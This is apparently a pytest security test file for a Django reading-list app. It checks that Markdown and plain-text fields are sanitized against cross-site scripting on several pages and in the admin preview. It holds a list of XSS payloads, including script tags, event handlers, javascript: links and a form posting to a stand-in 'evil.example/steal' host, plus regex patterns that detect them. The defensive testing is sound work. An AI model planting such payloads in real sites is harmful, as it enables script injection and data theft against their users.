"""Every stored Markdown field of the papers app reaches the page only through core.markdown."""

import re

import pytest

from papers.models import ChecklistStep, MethodStep
from tests.factories import make_paper, make_reading_method

pytestmark = pytest.mark.django_db

PAYLOADS = "\n\n".join(
    [
        "Intro **bold** text.",
        "<script>alert('xss-script')</script>",
        '<img src="x" onerror="alert(\'xss-img\')">',
        '<a href="#" onclick="alert(\'xss-click\')">click</a>',
        "[js link](javascript:alert('xss-js'))",
        "[JS link](JaVaScRiPt:alert('xss-js2'))",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![img](javascript:alert('xss-imgsrc'))",
        '<iframe src="https://evil.example/frame"></iframe>',
        '<form action="https://evil.example/steal"><button>go</button></form>',
        "<svg onload=\"alert('xss-svg')\"><circle/></svg>",
        "<style>body{display:none}</style>",
        '<div style="background:url(javascript:alert(1))" hx-get="/admin/" hx-trigger="load">styled</div>',
        '<object data="https://evil.example/x.swf"></object>',
        "<input autofocus onfocus=\"alert('xss-focus')\">",
        "$$</span><script>alert('xss-math')</script>$$",
        "Outro.",
    ]
)

# Active markup, as it would appear in the HTML (escaped text such as
# "&lt;script&gt;" is harmless and may stay).
ACTIVE = {
    "script": r"<script(?![^>]*\ssrc=\"/static/)",
    "dangerous tag": r"<(iframe|svg|math|style|object|embed)\b",
    "event handler": r"<[^>]+\son\w+\s*=",
    "bad scheme": r"\b(href|src|action|data)\s*=\s*[\"']?\s*(javascript|data|vbscript):",
    "inline style url": r"<[^>]+\sstyle=\"[^\"]*url\(",
    "htmx attribute from content": r"<[^>]+\shx-(get|trigger)=\"(/admin/|load)",
    "external form/frame": r"=\s*\"https://evil\.example",
    "autofocus input": r"<input[^>]*autofocus",
}


def assert_clean(html: str):
    for name, pattern in ACTIVE.items():
        match = re.search(pattern, html, flags=re.IGNORECASE)
        assert match is None, f"{name}: {html[max(0, match.start() - 80) : match.end() + 80]}"


def test_paper_guide_and_step_payloads_do_not_survive(learner_client):
    paper = make_paper(guide=PAYLOADS, steps=0)
    ChecklistStep.objects.create(paper=paper, order=1, title="Step <b>one</b>", body=PAYLOADS)
    assert "<strong>bold</strong>" in paper.guide_html
    content = learner_client.get(paper.get_absolute_url()).content.decode()
    assert "<strong>bold</strong>" in content and "styled" in content
    assert "Step &lt;b&gt;one&lt;/b&gt;" in content  # titles are plain text, escaped
    assert_clean(content)


def test_htmx_checklist_payloads_do_not_survive(learner_client):
    paper = make_paper(steps=0)
    step = ChecklistStep.objects.create(
        paper=paper, order=1, title="<script>alert('xss-script')</script>", body=PAYLOADS
    )
    response = learner_client.post(
        f"/papers/{paper.slug}/steps/{step.pk}/toggle/", {"done": "1"}, headers={"HX-Request": "true"}
    )
    assert_clean(response.content.decode())


@pytest.mark.parametrize("intro", [PAYLOADS, ""])
def test_guide_page_payloads_do_not_survive(client, intro):
    lesson = make_reading_method(intro=intro, steps=[])
    MethodStep.objects.create(lesson=lesson, order=1, title="t", body=PAYLOADS)
    content = client.get("/guide/").content.decode()
    assert "<strong>bold</strong>" in content
    assert_clean(content)


def test_list_page_escapes_plain_fields(client):
    make_paper(
        title="<script>alert('xss-script')</script>",
        summary='<img src=x onerror="alert(1)">',
        authors="<svg onload=alert(1)>",
    )
    assert_clean(client.get("/papers/").content.decode())


def test_paper_url_fields_cannot_smuggle_javascript(client):
    paper = make_paper(
        paper_url="javascript:alert(1)",
        code_url="data:text/html,<script>alert(1)</script>",
        arxiv_id='"><script>alert(1)</script>',
    )
    content = client.get(paper.get_absolute_url()).content.decode()
    assert_clean(content)


def test_admin_preview_uses_the_sanitizer(instructor_client):
    response = instructor_client.post("/markdownx/markdownify/", {"content": PAYLOADS})
    assert response.status_code == 200
    html = response.content.decode()
    assert "<strong>bold</strong>" in html
    assert_clean(html)


@pytest.mark.parametrize("raw", [p for p in PAYLOADS.split("\n\n") if p.startswith("<") or "](" in p])
def test_the_checker_itself_catches_raw_payloads(raw):
    import markdown

    with pytest.raises(AssertionError):
        assert_clean(markdown.markdown(raw))
